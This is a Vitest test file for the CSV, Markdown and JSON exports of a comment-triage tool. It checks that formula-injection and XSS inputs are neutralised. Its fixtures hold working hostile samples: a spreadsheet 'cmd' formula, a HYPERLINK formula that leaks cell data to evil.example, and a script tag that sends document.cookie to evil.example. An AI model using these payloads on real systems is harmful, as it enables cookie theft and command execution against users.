import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { CSV_COLUMNS, guardCell, openQuestionsCsv, parseCsv, toCsv, unguardCell } from '../../../lib/export/csv';
import { buildExport } from '../../../components/exports';
import { formatThread } from '../../../cli/format';
import { escapeMarkdown, markdownLink, openQuestionsMarkdown } from '../../../lib/export/markdown';
import { queueToMultiThreadExport, stringifyExport, toThreadExport } from '../../../lib/export/json';
import type { QueueItem } from '../../../lib/store/types';
import type { Label } from '../../../lib/thread';
import { analysed } from '../store/helpers';

const NOW = Date.parse('2024-06-01T00:00:00Z');
const THREADS = [
  { url: 'https://status.example.org/t/api-outage/812', title: 'API outage, "March 4" — post-mortem, part 1' },
  { url: 'https://blog.example.com/2024/05/release/', title: '=cmd|"/c calc"!A1 release notes' },
];

const HOSTILE_TEXTS = [
  'Will webhooks be retried, or do we replay them?',
  'Commas, "double quotes", and \'single\' ones?',
  'Line one\nline two\r\nline three\rend?',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+1 does this affect EU?',
  '-2+3 is what I get?',
  '@SUM(A1:A9) ?',
  '\t=cmd tab-led?',
  "'=already quoted?",
  "'Twas broken?",
  '<img src=x onerror=alert(1)> is this safe?',
  '"><svg onload=alert(document.domain)>',
  '<script>fetch("//evil.example/"+document.cookie)</script>',
  '[click me](javascript:alert(1)) and ![x](http://t.example/p.png)',
  'right\u202Eto-left override\u202C?',
  'Z̷̢̛̯a̵͙͐l̶̩͋g̵̱̈o̶̗͝ text?',
  'null\u0000byte inside?',
  '# not a heading\n- not a list\n1. not ordered\n    not code\n---',
  '*bold* _em_ `code` | table | ~strike~ &amp; \\backslash',
  'x'.repeat(1_048_576) + '?',
];

function item(id: string, text: string, threadUrl: string, options: { labels?: Label[]; status?: QueueItem['triage']['status']; staff?: boolean; followUp?: boolean; override?: Label[] } = {}): QueueItem {
  const labels = options.labels ?? ['question'];
  const comment = analysed(id, text, labels, { staff: options.staff ?? false, followUp: options.followUp ?? false, permalink: `${threadUrl}#comment-${id}` });
  return {
    comment: { ...comment, key: `${threadUrl}#${id}`, threadUrl, site: new URL(threadUrl).hostname, firstSeenAt: '2024-04-02T10:00:00.000Z', lastSeenAt: '2024-04-02T10:00:00.000Z', goneSince: null, history: [] },
    triage: { key: `${threadUrl}#${id}`, threadUrl, status: options.status ?? 'open', snoozeUntil: null, note: '', assignee: null, labelOverride: options.override ?? null, draft: '', updatedAt: '2024-04-02T10:00:00.000Z' },
    labels: options.override ?? labels,
  };
}

const HOSTILE_ITEMS = HOSTILE_TEXTS.map((text, i) => item(`h${i}`, text, THREADS[i % 2].url, { followUp: i === 3 }));

describe('CSV export', () => {
  it('round-trips every text exactly through papaparse, hostile, multi-line, NUL and 1 MB included', () => {
    const csv = toCsv(HOSTILE_ITEMS, THREADS);
    const rows = parseCsv(csv);
    expect(rows).toHaveLength(HOSTILE_TEXTS.length);
    rows.forEach((row, i) => {
      expect(row.text).toBe(HOSTILE_TEXTS[i]);
      expect(row['thread title']).toBe(THREADS[i % 2].title);
      expect(row['thread url']).toBe(THREADS[i % 2].url);
      expect(row.permalink).toBe(HOSTILE_ITEMS[i].comment.permalink);
      expect(row.labels).toBe('question');
      expect(row['reply state']).toBe('unanswered');
      expect(row['follow-up']).toBe(i === 3 ? 'yes' : 'no');
      expect(row.author).toBe(`userh${i}`);
      expect(row.publishedAt).toBe('2024-04-02T10:00:00.000Z');
    });
  });

  it('has the documented header and no cell a spreadsheet would run as a formula', () => {
    const raw = Papa.parse<string[]>(toCsv(HOSTILE_ITEMS, THREADS)).data;
    expect(raw[0]).toEqual([...CSV_COLUMNS]);
    const cells = raw.flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(cells).toContain('\'=HYPERLINK("http://evil.example/?"&A1,"click")');
    expect(cells).toContain('\'=cmd|"/c calc"!A1 release notes');
  });

  it('starts with a UTF-8 byte order mark, so Excel reads non-English text as UTF-8, and still reads back', () => {
    const url = THREADS[0].url;
    const texts = ['Funktioniert das Hochladen für Fußnoten wieder? Äußerst ärgerlich.', 'アップロードはいつ直りますか?', '上传什么时候修好?'];
    const items = texts.map((text, i) => item(`u${i}`, text, url));
    const csv = toCsv(items, THREADS);
    expect([...new TextEncoder().encode(csv).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(csv.slice(1)).toMatch(/^"thread title","thread url",/);
    expect(parseCsv(csv).map((row) => row.text)).toEqual(texts);
    expect(Object.keys(parseCsv(csv)[0])).toEqual([...CSV_COLUMNS]);
    // papaparse with a header row (what a script reading our file uses) gets clean column names too.
    expect(Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true }).meta.fields).toEqual([...CSV_COLUMNS]);
    // Without the BOM (the CLI's stdout) it is the same CSV, and parseCsv reads both.
    const bare = toCsv(items, THREADS, { bom: false });
    expect(csv).toBe(`\uFEFF${bare}`);
    expect(parseCsv(bare)).toEqual(parseCsv(csv));
    // The dashboard's download has it.
    expect(buildExport('csv', items, []).text.startsWith('\uFEFF')).toBe(true);
  });

  it('the CLI writes its CSV to stdout without a byte order mark', () => {
    const url = THREADS[0].url;
    const comments = [analysed('1', 'Geht das Hochladen für Fußnoten wieder?', ['question'])];
    const out = formatThread({ thread: { url, title: 'Ausfall', platform: 'wordpress', author: null, commentCountClaimed: null, warnings: [] }, comments }, 'csv', new Date(NOW));
    expect(out).toMatch(/^"thread title",/);
    expect(parseCsv(out).map((row) => row.text)).toEqual(['Geht das Hochladen für Fußnoten wieder?']);
  });

  it('guardCell and unguardCell are inverse for every leading character', () => {
    for (const text of ['=1', '+1', '-1', '@a', '\tx', '\rx', "'x", "''=x", 'plain', '', "a'=b"]) {
      expect(unguardCell(guardCell(text))).toBe(text);
    }
    expect(guardCell('plain')).toBe('plain');
  });

  it('exports only open questions and bug reports by non-staff authors', () => {
    const url = THREADS[0].url;
    const items = [
      item('1', 'Is the EU region affected?', url),
      item('2', 'Thanks for the update!', url, { labels: ['thanks'] }),
      item('3', 'Sync crashes with 503', url, { labels: ['bug'] }),
      item('4', 'Will there be a post-mortem?', url, { status: 'answered' }),
      item('5', 'Can everyone retry now?', url, { staff: true }),
      item('6', 'Is this a dupe?', url, { override: ['other'] }),
      item('7', 'Dismissed question?', url, { status: 'dismissed' }),
    ];
    expect(parseCsv(openQuestionsCsv(items, THREADS, NOW)).map((r) => r.text)).toEqual(['Is the EU region affected?', 'Sync crashes with 503']);
  });
});

describe('Markdown FAQ draft', () => {
  const md = openQuestionsMarkdown(HOSTILE_ITEMS.slice(0, -1), THREADS, { now: NOW, generatedAt: new Date(NOW) });

  it('groups questions under one heading per thread, each with its permalink', () => {
    const headings = md.split('\n').filter((line) => line.startsWith('## '));
    expect(headings).toHaveLength(2);
    // Grouped in thread-URL order.
    expect(headings[0]).toContain(`(<${THREADS[1].url}>)`);
    expect(headings[1]).toContain(`(<${THREADS[0].url}>)`);
    expect(headings[1]).toContain('API outage, "March 4" — post-mortem, part 1');
    expect(md).toContain(`(<${THREADS[1].url}#comment-h1>)`);
    expect(md.match(/open on page/g)).toHaveLength(HOSTILE_TEXTS.length - 1);
    expect(md).toMatch(/^# Open questions: FAQ draft\n\n_19 questions from 2 threads, 2024-06-01\._/);
  });

  it('escapes comment text so no markup, HTML or link survives', () => {
    // Outside the link targets we write ourselves, no raw "<" is left to start HTML.
    const withoutOurLinks = md.replace(/\]\(<https?:\/\/[^>\s]+>\)/g, '');
    expect(withoutOurLinks).not.toMatch(/(^|[^\\])</m);
    expect(md).not.toMatch(/(^|[^\\])\[click me\]/);
    expect(md).not.toContain('\u0000');
    const lines = md.split('\n');
    expect(lines.some((l) => /^> #/.test(l) || /^> -/.test(l) || /^> 1\./.test(l))).toBe(false);
  });

  it('escaping is lossless: removing the escapes gives back the words people wrote', () => {
    for (const text of HOSTILE_TEXTS.slice(0, -1)) {
      const unescaped = escapeMarkdown(text).replace(/\\([!-/:-@[-`{-~])/g, '$1');
      expect(unescaped).toBe(text.replace(/\r\n?/g, '\n').replace(/\u0000/g, '\uFFFD'));
    }
  });

  describe('holds questions only, with the staff answers the page already has', () => {
    // The UX review's demo export: a pure bug report listed among "6 questions", and questions staff had answered
    // on the page still reading "Answer: to write".
    const url = THREADS[0].url;
    const answered = (base: QueueItem, by: string): QueueItem => ({ ...base, comment: { ...base.comment, reply: { state: 'answered', by } } });
    const staffText = 'Yes, they keep their dates. See <b>[the FAQ](javascript:alert(1))</b>\n# not a heading';
    const staffAnswer = item('s1', staffText, url, { labels: ['other'], staff: true });
    const all = [
      answered(item('1', 'Will offline observations keep their dates?', url), 's1'),
      item('2', 'My photos still show as pending on the app.', url, { labels: ['bug'] }),
      item('3', 'Still getting ghost emails. Is anyone looking at this?', url, { labels: ['question', 'bug'], followUp: true }),
      answered(item('4', 'Can I see which uploads failed?', url), 's-not-loaded'),
      item('5', 'Does this affect sounds too?', url),
      staffAnswer,
    ];
    const permalinkOf = (id: string) => `(<${url}#comment-${id}>)`;

    it('leaves pure bug reports out and counts the questions it lists', () => {
      const md = openQuestionsMarkdown(all, THREADS, { now: NOW, generatedAt: new Date(NOW) });
      expect(md).toMatch(/^_4 questions from 1 thread, 2024-06-01\._$/m);
      expect(md).not.toContain(permalinkOf('2'));
      expect(md).not.toContain('pending on the app');
      // Asked and reported at once: a question, tagged as both.
      expect(md).toContain(`${permalinkOf('3')} · question, bug · follow-up`);
      expect(md.match(/\*\*Answer:\*\*/g)).toHaveLength(4);
    });

    it('quotes the staff answer found on the page, escaped, with its writer and link', () => {
      const md = openQuestionsMarkdown(all, THREADS, { now: NOW, generatedAt: new Date(NOW) });
      const block = md.slice(md.indexOf(permalinkOf('1')), md.indexOf(permalinkOf('3')));
      expect(block).toContain(`**Answer:** _answered on the page by users1, 2024-04-02_ · [open on page]${permalinkOf('s1')}`);
      expect(block).toContain('> Yes, they keep their dates. See \\<b\\>\\[the FAQ\\]\\(javascript:alert\\(1\\)\\)\\</b\\>\n> \\# not a heading');
      expect(block).not.toContain('to write');
      // The staff comment itself is no question of the FAQ.
      expect(md.split('\n').filter((line) => line.startsWith('— ')).map((line) => line.slice(2, 8))).toEqual(['user1,', 'user3,', 'user4,', 'user5,']);
    });

    it('says staff answered when the answering comment is not among the exported ones', () => {
      const md = openQuestionsMarkdown(all, THREADS, { now: NOW, generatedAt: new Date(NOW) });
      const block = md.slice(md.indexOf(permalinkOf('4')), md.indexOf(permalinkOf('5')));
      expect(block).toContain('**Answer:** _answered on the page by staff_');
      expect(md.match(/\*\*Answer:\*\* _to write_/g)).toHaveLength(2);
    });

    it('the dashboard export finds answers among the comments it is given, and falls back without them', () => {
      const open = all.filter((i) => !i.comment.staff);
      const withAll = buildExport('md', open, [], new Date(NOW), all).text;
      expect(withAll).toContain(`_answered on the page by users1, 2024-04-02_ · [open on page]${permalinkOf('s1')}`);
      expect(withAll).toMatch(/^_4 questions from 1 thread/m);
      const alone = buildExport('md', open, [], new Date(NOW)).text;
      expect(alone.match(/_answered on the page by staff_/g)).toHaveLength(2);
      expect(alone).not.toContain(permalinkOf('2'));
    });
  });

  it('links only http(s) permalinks', () => {
    expect(markdownLink('x', 'javascript:alert(1)')).toBe('javascript:alert\\(1\\)');
    expect(markdownLink('x', 'data:text/html,<b>')).not.toContain('](');
    expect(markdownLink('a [b]', 'https://e.example/p?q=<x>#c')).toBe('[a \\[b\\]](<https://e.example/p?q=%3Cx%3E#c>)');
  });
});

describe('JSON export', () => {
  it('toThreadExport writes exactly the CLI format', () => {
    const comments = [
      analysed('1', 'Is the EU region affected?', ['question'], { reply: { state: 'answered', by: '2' } }),
      analysed('2', '@user1 yes, until 10:50 UTC', ['other'], { staff: true, staffReason: 'configured', parentId: '1', quotes: ['x'], lang: 'en' }),
    ];
    const out = toThreadExport({ url: THREADS[0].url, title: THREADS[0].title, platform: 'discourse', author: 'maria_ops' }, comments);
    expect(out.thread).toEqual({ url: THREADS[0].url, title: THREADS[0].title, platform: 'discourse', author: 'maria_ops', commentCount: 2, exportedCount: 2 });
    expect(Object.keys(out.comments[1]).sort()).toEqual(['author', 'followUp', 'id', 'labels', 'parentId', 'permalink', 'publishedAt', 'reply', 'scores', 'staff', 'text']);
    expect(out.comments[0]).toMatchObject({ id: '1', reply: { state: 'answered', by: '2' }, labels: ['question'], staff: false });
    expect(JSON.parse(stringifyExport(out))).toEqual(out);
  });

  it('the multi-thread export groups stored items per thread, staff label overrides winning', () => {
    const items = [
      item('a', 'First?', THREADS[0].url),
      item('b', 'Second', THREADS[1].url, { labels: ['thanks'] }),
      item('c', 'Third?', THREADS[0].url, { override: ['bug'] }),
      item('d', 'Orphan?', 'https://gone.example/t/1'),
    ];
    const out = queueToMultiThreadExport(items, [{ ...THREADS[0], platform: 'discourse', author: 'maria_ops', commentCountRead: 19 }, THREADS[1]], new Date(NOW));
    expect(out.format).toBe('threadsift-threads');
    expect(out.exportedAt).toBe('2024-06-01T00:00:00.000Z');
    // commentCount is the thread's (19 read at its last scan), not the 2 exported; a thread without a stored
    // count (here the orphan and a bare ThreadInfo) can only say how many it exports.
    expect(out.threads.map((t) => [t.thread.url, t.thread.commentCount, t.thread.exportedCount])).toEqual([
      [THREADS[0].url, 19, 2], [THREADS[1].url, 1, 1], ['https://gone.example/t/1', 1, 1],
    ]);
    for (const t of out.threads) expect(t.thread.exportedCount).toBe(t.comments.length);
    expect(out.threads[0].comments[1].labels).toEqual(['bug']);
    expect(out.threads[0].thread.platform).toBe('discourse');
    expect(out.threads[1].thread).toMatchObject({ platform: 'unknown', author: null });
  });
});
